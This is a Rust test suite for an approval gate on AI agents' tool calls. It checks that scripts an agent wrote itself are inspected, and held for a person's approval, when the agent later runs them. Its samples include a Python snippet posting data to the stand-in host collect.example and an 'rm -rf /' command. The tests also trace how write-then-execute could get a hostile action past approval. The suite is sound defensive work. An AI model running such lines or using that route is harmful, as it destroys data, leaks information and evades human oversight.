//! Code that an agent wrote itself is read when it runs.

use std::time::Duration;

use crate::support::{Wishes, World, ask, command, in_session, open, principal, reply, world};
use countersign_core::approval::Choice;
use countersign_core::call::ToolCall;
use countersign_core::digest::Digest;
use countersign_gate::base::principal::Role;
use countersign_gate::records::request::{OnDisk, Submission};
use serde_json::{Value, json};

/// Code about which a person is asked.
const SENDS: &str = "import requests\nrequests.post(\"https://collect.example/\", data=\"a\")\n";
/// Code about which nobody is asked.
const ADDS: &str = "print(1 + 1)\n";

fn tool(session: &str, tool: &str, args: Value) -> Submission {
    Submission {
        call: ToolCall {
            tool: tool.to_owned(),
            args,
            cwd: Some("/home/dev/project".to_owned()),
            ..ToolCall::default()
        },
        session: session.to_owned(),
        ..Submission::default()
    }
}

async fn writes(world: &World, session: &str, path: &str, content: &str) {
    let args = json!({ "path": path, "content": content });
    let call = world.submit(tool(session, "write_file", args)).await;
    assert_eq!(call.status.word(), "allowed", "{call:?}");
}

async fn outcome(world: &World, submission: Submission) -> String {
    world.submit(submission).await.status.to_string()
}

#[tokio::test]
async fn what_was_written_in_one_call_is_read_when_another_runs_it() {
    let world = world().await;
    assert_eq!(outcome(&world, command("python3 send.py")).await, "allowed");
    writes(&world, "s1", "send.py", SENDS).await;
    let (call, _) = ask(&world, command("python3 send.py")).await;
    let shown = format!("{:?}", call.assessment);
    assert!(shown.contains("collect.example"), "{shown}");
    assert!(shown.contains("which this agent wrote"), "{shown}");
    assert_eq!(
        outcome(&world, command("python3 other.py")).await,
        "allowed",
        "the rest of the workspace is what it was"
    );
}

#[tokio::test]
async fn it_counts_for_every_session_of_the_key_and_for_no_other_key() {
    let world = world().await;
    writes(&world, "s1", "send.py", SENDS).await;
    let elsewhere = in_session("s2", "python3 send.py");
    assert_eq!(outcome(&world, elsewhere).await, "waiting");
    let other = principal(&world.gate, "codex", Role::Agent).await;
    let call = command("python3 send.py");
    let call = world.gate.submit(&other, call).await.unwrap();
    assert_eq!(
        call.status.word(),
        "allowed",
        "what others wrote is the project's"
    );
}

#[tokio::test]
async fn it_is_known_after_a_restart_and_by_other_replicas() {
    let world = world().await;
    writes(&world, "s1", "send.py", SENDS).await;
    let beside = open(world.home.path(), &world.clock, Wishes::default()).await;
    let call = beside
        .submit(&world.agent, command("python3 send.py"))
        .await;
    assert_eq!(call.unwrap().status.word(), "waiting");
}

#[tokio::test]
async fn edits_are_followed_where_the_file_before_is_known() {
    let world = world().await;
    let edit = |old: &str, new: &str| {
        let args = json!({ "file_path": "a.py", "old_string": old, "new_string": new });
        tool("s1", "Edit", args)
    };
    writes(&world, "s1", "a.py", ADDS).await;
    assert_eq!(outcome(&world, edit("1 + 1", "2 + 2")).await, "allowed");
    assert_eq!(outcome(&world, command("python3 a.py")).await, "allowed");
    assert_eq!(
        outcome(&world, edit("print(2 + 2)\n", SENDS)).await,
        "allowed"
    );
    assert_eq!(outcome(&world, command("python3 a.py")).await, "waiting");
    // Of this file nobody knows what was in it before.
    let args = json!({ "file_path": "b.py", "old_string": "a", "new_string": "b" });
    assert_eq!(outcome(&world, tool("s1", "Edit", args)).await, "allowed");
    assert_eq!(outcome(&world, command("python3 b.py")).await, "waiting");
}

#[tokio::test]
async fn a_module_that_a_written_file_loads_is_read_as_well() {
    let world = world().await;
    writes(&world, "s1", "lib/send.py", SENDS).await;
    writes(&world, "s1", "lib/go.py", "import send\n").await;
    writes(&world, "s1", "main.py", "from lib import go\n").await;
    assert_eq!(
        outcome(&world, command("python3 lib/go.py")).await,
        "waiting"
    );
    let inline = command("python3 -c 'from lib import send'");
    assert_eq!(outcome(&world, inline).await, "waiting");
}

#[tokio::test]
async fn no_grant_speaks_of_a_file_that_can_be_written_anew() {
    let world = world().await;
    writes(&world, "s1", "send.py", SENDS).await;
    let (_, approval) = ask(&world, command("python3 send.py")).await;
    let shown = world.gate.approval(&world.ana, &approval).await.unwrap();
    assert_eq!(shown.choices, [Choice::Once, Choice::Deny], "{shown:?}");
    let always = world
        .gate
        .answer(&world.ana, reply(&approval, Choice::Always));
    assert!(always.await.is_err());
    world.answer(&approval, Choice::Once).await;
}

#[tokio::test]
async fn a_question_about_a_file_is_not_one_about_what_is_written_there_next() {
    let world = world().await;
    writes(&world, "s1", "send.py", SENDS).await;
    let (_, first) = ask(&world, command("python3 send.py")).await;
    let (_, same) = ask(&world, command("python3 send.py")).await;
    assert_eq!(first, same, "nothing has changed");
    writes(&world, "s1", "send.py", &SENDS.replace("collect", "other")).await;
    let (_, second) = ask(&world, command("python3 send.py")).await;
    assert_ne!(first, second);
}

#[tokio::test]
async fn what_a_refused_call_would_have_written_was_not_written() {
    let world = world().await;
    // Both in one call: what is refused leaves nothing behind.
    let refused = command("echo 'rm -rf /' > run.sh; rm -rf /");
    assert_eq!(outcome(&world, refused).await, "refused");
    assert_eq!(outcome(&world, command("bash run.sh")).await, "allowed");
}

#[tokio::test]
async fn what_a_person_changed_in_a_call_counts_as_written() {
    let world = world().await;
    let args = json!({ "path": "/etc/app.py", "content": ADDS });
    let (_, approval) = ask(&world, tool("s1", "write_file", args)).await;
    let mut changed = reply(&approval, Choice::Once);
    changed.args = Some(json!({ "path": "run.py", "content": SENDS }));
    world.gate.answer(&world.ana, changed).await.unwrap();
    assert_eq!(outcome(&world, command("python3 run.py")).await, "waiting");
}

#[tokio::test]
async fn who_looks_at_the_disk_is_believed_and_bound_to_what_was_there() {
    let world = world().await;
    writes(&world, "s1", "a.py", SENDS).await;
    let found = |content: &str| OnDisk {
        path: "~/project/a.py".to_owned(),
        content: Some(content.to_owned()),
        digest: Digest::of(content.as_bytes()),
    };
    let with = |content: &str| Submission {
        on_disk: vec![found(content)],
        ..command("python3 a.py")
    };
    let harmless = world.submit(with(ADDS)).await;
    assert_eq!(
        harmless.status.word(),
        "allowed",
        "it was written anew meanwhile"
    );
    let permit = world.gate.take_up(&world.agent, &harmless.call_id, None);
    let bound = permit.await.unwrap().action().attachments.clone();
    assert_eq!(bound, [Digest::of(ADDS.as_bytes())]);
    let (first, _) = ask(&world, with(SENDS)).await;
    let changed = format!("{SENDS}#\n");
    let (second, _) = ask(&world, with(&changed)).await;
    assert_ne!(first.digest, second.digest, "another file is another call");
    // A file that nobody wrote is the project's, and not bound.
    let mut trusted = command("python3 b.py");
    trusted.on_disk = vec![OnDisk {
        path: "~/project/b.py".to_owned(),
        ..found(SENDS)
    }];
    assert_eq!(outcome(&world, trusted).await, "allowed");
}

#[tokio::test]
async fn a_file_with_more_contents_than_are_kept_asks() {
    let world = world().await;
    for number in 0..20 {
        world.clock.advance(Duration::from_secs(1));
        writes(&world, "s1", "a.py", &format!("print({number})\n")).await;
    }
    assert_eq!(outcome(&world, command("python3 a.py")).await, "waiting");
}
